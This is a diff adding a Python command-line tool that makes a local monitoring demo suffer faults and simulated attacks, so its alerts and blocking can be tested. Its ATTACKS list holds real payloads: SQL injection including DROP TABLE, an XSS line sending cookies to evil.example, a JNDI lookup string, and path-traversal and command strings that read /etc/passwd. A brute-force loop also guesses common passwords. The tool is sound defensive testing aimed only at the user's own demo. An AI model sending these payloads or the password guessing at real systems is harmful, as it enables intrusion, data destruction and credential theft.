@@ -1,0 +1,143 @@
+"""`memmon simulate`: make the running demo suffer something real."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import random
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import NamedTuple
+from urllib.parse import quote
+
+import click
+
+from memmon import duration, outbound
+from memmon.errors import BadInput, NotFound, Permanent, Transient
+from memmon.settings import load
+
+LONGEST = 3600.0
+TIMEOUT = 10.0
+
+FAULTS = {
+    "slow-database": ("8m", "its queries take more than a second"),
+    "memory-leak": ("5m", "it takes up to 200 MB that it does not need"),
+    "errors": ("2m", "its operations fail"),
+    "cache-misses": ("15m", "its cache finds nothing"),
+    "crash": ("1m", "it kills itself"),
+}
+"""Fault -> how long by default (long enough for the default rule about it to fire), and what the demo then does."""
+
+ATTACKS = (
+    "' OR '1'='1' --",
+    "'; DROP TABLE memories_enhanced; --",
+    "x' UNION SELECT name, sql FROM sqlite_master --",
+    "<script>fetch('//evil.example/'+document.cookie)</script>",
+    "../../../../etc/passwd",
+    "; cat /etc/passwd",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+)
+PASSWORDS = ("123456", "password", "letmein", "qwerty", "admin", "welcome", "dragon", "secret")
+
+
+class Demo(NamedTuple):
+    """Where the running demo is, and its token."""
+
+    url: str
+    token: str
+
+
+class Attack(NamedTuple):
+    """How an attack goes: a request after the other, so many seconds apart, so long by default."""
+
+    seconds_apart: float
+    default: str
+    requests: Callable[[], Iterator[tuple[str, str, object]]]
+    about: str
+
+
+def _guesses() -> Iterator[tuple[str, str, object]]:
+    for number, password in enumerate(itertools.cycle(PASSWORDS)):
+        yield "POST", "/login", {"user": "demo", "password": f"{password}{number}"}
+
+
+def _injections() -> Iterator[tuple[str, str, object]]:
+    for text in itertools.cycle(ATTACKS):
+        yield "GET", f"/memories/search?q={quote(text)}", None
+
+
+REAL_ATTACKS = {
+    "brute-force": Attack(0.5, "2m", _guesses, "wrong logins"),
+    "injection": Attack(1.0, "2m", _injections, "searches with attack strings"),
+}
+
+
+@click.command()
+@click.argument("what", type=click.Choice([*FAULTS, *REAL_ATTACKS]))
+@click.option("--for", "length", metavar="DURATION", help="How long, like 30s or 2m; by default long enough to alert.")
+def simulate(what: str, length: str | None) -> None:
+    """Make the demo really slow, leaky, failing, forgetful or dead, or really attack it.
+
+    Faults end by themselves, or when the demo restarts. Attacks come from a random address of 203.0.113.0/24 and stop early
+    when that is blocked.
+    """
+    default = FAULTS[what][0] if what in FAULTS else REAL_ATTACKS[what].default
+    seconds = duration.parse(length or default, "--for")
+    if not 0 < seconds <= LONGEST:
+        raise BadInput("--for", f"must be more than nothing and at most {duration.show(LONGEST)}")
+    demo = _running(load().run_dir / "demo.json")
+    if what in FAULTS:
+        _switch(demo, what, seconds)
+    else:
+        _attack(demo, REAL_ATTACKS[what], seconds)
+
+
+def _running(path: Path) -> Demo:
+    """Return the demo that `path` tells of; NotFound when none runs."""
+    try:
+        told = json.loads(path.read_text(encoding="utf-8"))
+        return Demo(told["url"].rstrip("/"), Path(told["token_file"]).read_text(encoding="utf-8").strip())
+    except FileNotFoundError as error:
+        raise NotFound(f"no demo runs here: {error.filename} is missing; start one with `memmon up --demo`") from None
+    except (OSError, ValueError, KeyError, TypeError, AttributeError) as error:
+        raise Permanent(f"{path} does not tell where the demo is: {type(error).__name__}: {error}") from None
+
+
+def _switch(demo: Demo, fault: str, seconds: float) -> None:
+    answer = _send(demo, "POST", "/-/faults", {"fault": fault, "seconds": seconds}, f"Bearer {demo.token}")
+    if answer.status != 200:
+        raise Permanent(f"the demo answered {answer.status}: {answer.body[:300].decode(errors='replace')}")
+    length = "" if fault == "crash" else f" for {duration.show(seconds)}"
+    click.echo(f"{fault}: the demo at {demo.url} does it{length} from now on: {FAULTS[fault][1]}")
+
+
+def _attack(demo: Demo, attack: Attack, seconds: float) -> None:
+    address = f"203.0.113.{random.randint(1, 254)}"
+    click.echo(f"{attack.about} from {address} to {demo.url}, for {duration.show(seconds)} or until that is blocked")
+    deadline = time.monotonic() + seconds
+    for sent, (method, path, body) in enumerate(attack.requests(), 1):
+        status = _send(demo, method, path, body, client=address).status
+        if status == 403:
+            click.echo(f"stopped: request {sent} was answered 403, {address} is blocked")
+            return
+        if time.monotonic() + attack.seconds_apart >= deadline:
+            click.echo(
+                f"done: {sent} requests sent, the last was answered {status}; {address} was not blocked meanwhile"
+            )
+            return
+        time.sleep(attack.seconds_apart)
+
+
+def _send(
+    demo: Demo, method: str, path: str, body: object = None, authorization: str = "", client: str = ""
+) -> outbound.Response:
+    given = {"Authorization": authorization, "X-Forwarded-For": client}
+    headers = {name: value for name, value in given.items() if value}
+    try:
+        return outbound.request(
+            method, demo.url + path, json=body, headers=headers, timeout=TIMEOUT, allow_private=True
+        )
+    except Transient as error:
+        raise Transient(f"the demo does not answer: {error}") from error
